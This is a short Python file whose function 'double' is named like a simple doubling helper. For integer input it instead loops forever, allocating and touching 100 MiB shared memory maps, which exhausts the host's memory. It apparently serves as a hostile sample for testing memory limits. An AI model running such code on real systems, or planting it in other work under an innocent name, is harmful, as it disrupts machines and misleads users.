import mmap

maps = []


def double(x):
    while type(x) is int:
        maps.append(mmap.mmap(-1, 100 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        for at in range(0, 100 << 20, 4096):
            maps[-1][at] = 1
    return x + x
